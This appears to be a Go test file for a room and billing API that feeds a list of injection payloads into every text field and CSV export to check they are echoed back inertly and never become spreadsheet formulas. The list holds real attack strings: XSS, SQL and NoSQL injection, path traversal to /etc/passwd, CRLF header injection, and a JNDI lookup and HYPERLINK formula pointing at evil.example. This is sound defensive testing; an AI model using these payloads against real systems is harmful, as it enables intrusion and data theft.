package api

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"mayfly/functions/control"
	"mayfly/functions/control/ledger"
	"mayfly/functions/control/price"
)

// hostile are strings that do something in a page, a spreadsheet, a log, a path or a
// key, where they are not kept apart from it.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `</title><svg/onload=alert(1)>`,
	`=HYPERLINK("http://evil.example","x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, `|calc`, `%0a=1+1`,
	`' OR '1'='1`, `{"$gt":""}`, `${jndi:ldap://evil.example/x}`, `{{7*7}}`, `%s%n%x`, `../../etc/passwd`, `..%2f..%2f`,
	`ROOM#x`, `TENANT#other`, `a#b\c`, "e\u0301\u202fx", "ﷺ", "𝕏🙂", strings.Repeat("A", 128), `"quoted", 'and', comma;`,
}

// unfit are those that no field takes: they would break a line or turn text around.
var unfit = []string{"a\nb", "a\r\nSet-Cookie: x=1", "\x00", "\x1b[31mred", "\u202egnp.exe", "\u2028", "\t=1+1", "\u0085"}

// TestHostileStringsComeBackAsTheyAre puts them into every field that takes text. What is
// taken is given back as it was, as JSON that no sniffing browser takes for a page; what
// is not taken says which field.
func TestHostileStringsComeBackAsTheyAre(t *testing.T) {
	w := newWorld(t)
	create := func(s string) string {
		body, err := json.Marshal(map[string]any{
			"external_id": s, "tags": map[string]string{"team": s}, "metadata": map[string]string{"x": s},
			"participants": []map[string]any{{"identity": s, "name": strings.ToValidUTF8(cut(s, 64), ""), "attributes": map[string]string{"a": s}}},
		})
		if err != nil {
			t.Fatal(err)
		}
		return string(body)
	}
	for _, s := range hostile {
		rec := w.do("POST", "/v1/rooms", create(s), as(w.acme))
		made := decode[roomView](w, rec, http.StatusCreated)
		if made.ExternalID != s || made.Tags["team"] != s || made.Participants[0].Identity != s {
			t.Errorf("%q came back as %q, %q, %q", s, made.ExternalID, made.Tags["team"], made.Participants[0].Identity)
		}
		if rec.Header().Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(rec.Header().Get("Content-Type"), "application/json") {
			t.Errorf("%q: headers %v", s, rec.Header())
		}
		claims, err := w.verify(made.Participants[0].Ticket, made.ID, w.clock.Now())
		if err != nil || claims.Identity != s || claims.Room != made.ID || claims.Tenant != "acme" {
			t.Errorf("%q: ticket %+v, %v", s, claims, err)
		}
		for _, u := range []string{made.Participants[0].CallURL, rec.Header().Get("Location")} {
			if strings.ContainsAny(u, "<>\"' \n") {
				t.Errorf("%q is in a URL: %s", s, u)
			}
		}
	}
	for _, s := range unfit {
		p := w.refused(w.do("POST", "/v1/rooms", create(s), as(w.acme)), codeInvalidRequest)
		fields := map[string]bool{}
		for _, e := range p.Errors {
			fields[e.Pointer] = true
		}
		if !fields["/external_id"] || !fields["/tags/team"] || !fields["/participants/0/identity"] || !fields["/participants/0/name"] {
			t.Errorf("%q is refused in %v", s, p.Errors)
		}
	}
}

func cut(s string, runes int) string {
	r := []rune(s)
	return string(r[:min(len(r), runes)])
}

// TestNoCellIsAFormula writes them into the tables that spreadsheets open: no cell of
// text begins with what makes a formula of it, and numbers stay numbers.
func TestNoCellIsAFormula(t *testing.T) {
	for _, s := range append(append([]string{}, hostile...), unfit...) {
		bill := &control.Bill{Tenant: s, Room: "room_1", ExternalID: s, Region: s, Tags: map[string]string{"a": s}}
		bill.Bill.Price = []price.Line{{SKU: "egress", Unit: price.UnitByte, Quantity: 5, RateNanoUSD: 90, RatePer: 1, NanoUSD: 450}}
		for name, table := range map[string][][]string{
			"usage": usageCSV([]ledger.Row{{Key: s}}, "tag:team"), "focus": focusCSV([]*control.Bill{bill}),
		} {
			var text strings.Builder
			if err := csv.NewWriter(&text).WriteAll(table); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
			if err != nil || len(rows) != len(table) || len(rows) < 2 {
				t.Fatalf("%s with %q: %d rows of %d, %v", name, s, len(rows), len(table), err)
			}
			for _, row := range rows[1:] {
				for i, c := range row {
					number := strings.Trim(c, "0123456789.-") == ""
					if c != "" && !number && strings.ContainsRune("=+-@\t\r\n|%", rune(c[0])) {
						t.Errorf("%s with %q: cell %d is %q", name, s, i, c)
					}
				}
			}
		}
	}
	if cell("-5") != "'-5" || cell("plain") != "plain" || cell("") != "" {
		t.Error("text that looks like a number is text")
	}
}
